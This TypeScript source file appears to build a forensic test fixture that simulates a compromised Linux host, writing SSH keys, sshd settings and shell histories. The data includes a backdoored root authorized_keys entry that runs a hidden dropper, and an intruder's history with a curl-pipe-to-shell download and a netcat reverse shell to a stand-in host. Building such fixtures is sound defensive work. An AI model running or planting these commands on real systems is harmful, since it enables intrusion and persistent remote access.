/**
 * SSH keys, known hosts, sshd_config and shell history of the fixture root.
 * The public keys were made with `ssh-keygen` for this fixture and their
 * private halves thrown away; a public key is not a secret.
 */
import { put } from './write.js';

/** Public keys (type and base64), with the fingerprint `ssh-keygen -l` prints for each. */
export const FIXTURE_KEYS = {
  admin: {
    key: 'ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBCRA6+d8syzbuzgIHME3s7+5m77ysJUVyXVNJsi615ePEjUtO/jOFcQIKS+6sMQn6ka2nwPWeplWsyhx8kiAFKE=',
    fingerprint: 'SHA256:ETDpZrkwahj4cOYD+OUNdbqQ2E84HiWF29cxEGnMHUQ',
  },
  alice: {
    key: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIIFmBh7wKF8Oi7FMrm5bmemawLxngnJSzQM/kGspYKSh',
    fingerprint: 'SHA256:GOEstsTxKFNRWBOCuyRJSQ3FD0efr8ONZZDO2cYUxOk',
  },
  attacker: {
    key: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAHyGDfOW046rxaT24cumIf/sfn+jKXOiAY0SWI5/zU',
    fingerprint: 'SHA256:rr2td1ZJGQ/bFJePWO4b3p2dbQC/mHc2ePJYPVw752w',
  },
  gitHost: {
    key: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAx/3kr+alc/nj93Sa5/v9uJZFVtFoX37QUS8AZqOZtp',
    fingerprint: 'SHA256:WyO0pxYoL9fkE6OJGT2XDwWf9fvVR6w9fiD7is++Dlk',
  },
  dbHost: {
    key: 'ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBOPwWrjpjaYYNhgIzXdzMtsUumP7X2l45xZd4f9oB+LO+RkT1KuBrJHW8RMV4NUU2i0Vdda33AbWY6RFma3xIuU=',
    fingerprint: 'SHA256:QvYJCtUNmsfcksXlMEUdgftKV8hPhWUmgTdvr7kTvik',
  },
  bastionHost: {
    key: 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC9mRYMZ1t46pmSFXCdNUS/65/eAxrrhcRh5wsC85440KIbY7VySdXnu8ljBQNeqnCEg4/8fT7+uA0+u0DOzMPVoR/ygu8UsNPiS82cCHGSgbNPgytKu60Wrlcl8m0Lch290Tax/csS9kEvng7Bi9cB3nvj9nnxwyu6d0xKGkoqZgB6w5gtdvMyMUbsB3/blQ/2ERiYRvynaxQ3mKsQ8EaJnu0cAPWk0hDL9DsGE9HlVPBRLcxEn5oKomtrqfbHlnb36Xgj5nb8pxIvibwnaYKmA/hHvne/AD+OWMfb2D5yo1fWHo200/4besx19TamsVGEPK9N8/kex0UDkSc26irN',
    fingerprint: 'SHA256:x8t/2lvN7ebvCy+Th5D49uovSGRqqnPxkTnI/ItG+Is',
  },
} as const;

const K = FIXTURE_KEYS;

const SSHD_CONFIG = `# Ubuntu's default, trimmed
Include /etc/ssh/sshd_config.d/*.conf
KbdInteractiveAuthentication no
UsePAM yes
AuthorizedKeysFile .ssh/authorized_keys .ssh/authorized_keys2
Subsystem sftp /usr/lib/openssh/sftp-server
`;

const SSHD_CLOUD_INIT = 'PasswordAuthentication yes\n';

// The intruder's key: only from their networks, and it runs a dropper before the shell.
const ROOT_AUTHORIZED_KEYS = `# admin key, installed by provisioning
${K.admin.key} admin@jumphost
from="198.51.100.0/24,2001:db8::/32",command="/bin/sh -c \\"/usr/local/bin/.sysupd >/dev/null 2>&1; exec $SHELL\\"",no-port-forwarding ${K.attacker.key} x@kali
`;

const ALICE_AUTHORIZED_KEYS = `${K.alice.key} alice@laptop\n`;

const ALICE_KNOWN_HOSTS = `git.example.com ${K.gitHost.key}
|1|MX/KDy1uTiedEp2Vu706aWuBKdM=|+CMs+4SUleRqMsutGCdlhitohfA= ${K.dbHost.key}
[bastion.example.com]:2222,198.51.100.7 ${K.bastionHost.key}
`;

const SSH_KNOWN_HOSTS = `@cert-authority *.example.com ${K.gitHost.key} example CA
@revoked * ${K.admin.key}
`;

const ROOT_BASH_HISTORY = `apt update
systemctl status nginx
tail -n 50 /var/log/nginx/error.log
`;

/** Seconds since the epoch of an ISO time, as bash writes it after `#`. */
function stamp(time: string): string {
  return `#${Date.parse(time) / 1000}`;
}

// HISTTIMEFORMAT was set for this account, so bash dated each command.
const SYSUPDATE_BASH_HISTORY = [
  stamp('2026-11-22T02:13:20Z'),
  'id',
  stamp('2026-11-22T02:13:31Z'),
  'uname -a',
  stamp('2026-11-22T02:15:40Z'),
  'curl -fsSL http://198.51.100.23/x.sh | sh',
  stamp('2026-11-22T02:16:35Z'),
  'apt-get install -y netcat-traditional',
  stamp('2026-11-22T02:17:02Z'),
  'nc -e /bin/sh 198.51.100.23 4444 &',
  '',
].join('\n');

const BOB_ZSH_HISTORY = `: 1794900000:0;git pull
: 1794900030:2;for f in *.log; do\\
  gzip $f\\
done
: 1794900100:0;ls -la
`;

const ALICE_BASH_HISTORY = `ls
sudo apt update
`;

/** Writes sshd_config, authorized_keys, known_hosts and history files. */
export async function buildUserFiles(root: string): Promise<void> {
  await put(root, '/etc/ssh/sshd_config', SSHD_CONFIG);
  await put(root, '/etc/ssh/sshd_config.d/50-cloud-init.conf', SSHD_CLOUD_INIT);
  await put(root, '/etc/ssh/ssh_known_hosts', SSH_KNOWN_HOSTS);
  await put(root, '/root/.ssh/authorized_keys', ROOT_AUTHORIZED_KEYS, {
    mode: 0o600,
    mtime: new Date('2026-11-22T02:16:02Z'),
  });
  await put(root, '/home/alice/.ssh/authorized_keys', ALICE_AUTHORIZED_KEYS, {
    mode: 0o600,
    mtime: new Date('2026-03-14T09:00:00Z'),
  });
  await put(root, '/home/alice/.ssh/known_hosts', ALICE_KNOWN_HOSTS, { mode: 0o600 });
  await put(root, '/root/.bash_history', ROOT_BASH_HISTORY, { mode: 0o600 });
  await put(root, '/home/alice/.bash_history', ALICE_BASH_HISTORY, { mode: 0o600 });
  await put(root, '/home/bob/.zsh_history', BOB_ZSH_HISTORY, { mode: 0o600 });
  await put(root, '/var/lib/sysupdate/.bash_history', SYSUPDATE_BASH_HISTORY, {
    mode: 0o600,
    mtime: new Date('2026-11-22T02:17:02Z'),
  });
}
